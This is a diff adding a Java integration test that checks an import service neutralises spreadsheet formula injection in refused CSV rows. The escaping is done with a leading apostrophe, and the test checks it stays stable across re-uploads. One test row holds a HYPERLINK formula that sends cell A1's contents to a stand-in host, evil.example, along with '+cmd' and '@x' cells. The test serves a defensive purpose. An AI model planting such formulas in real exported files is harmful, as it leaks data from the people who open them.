@@ -345,6 +345,21 @@ class ParksIT {
     }
 
     @Test
+    void aRefusedRowOpenedInASpreadsheetRunsNothingAndComesBackAsItWas() {
+        String formula = "=HYPERLINK(\"\"http://evil.example?\"\"&A1)";
+        String row = "\"" + formula + "\",911101080000000000,2020-01-02,有限责任公司,-5,+cmd,北京市,海淀区,@x\n";
+        JsonNode job = ended(park, upload(park, "", (FORM + "\n" + row).getBytes(UTF_8), "text/csv"));
+        String refused = get(job.path("refusedRows").stringValue()).response().body();
+        assertThat(refused).contains("\"'" + formula + "\"", ",-5,'+cmd,", ",'@x,");
+        assertThat(refused).doesNotContainPattern("(^|[,\n])\"?[=@]");
+        JsonNode again = ended(park, upload(park, "", refused.getBytes(UTF_8), "text/csv"));
+        assertThat(get(again.path("refusedRows").stringValue()).response().body())
+                .as("an apostrophe more each time would be another text each time")
+                .contains("\"'" + formula + "\"")
+                .doesNotContain("''=");
+    }
+
+    @Test
     void listsImportsPageByPage() {
         for (int i = 0; i < 5; i++) {
             byte[] file = (FORM + "\n丁" + i + "公司," + uscc() + ",,,,,,海淀区,\n").getBytes(UTF_8);
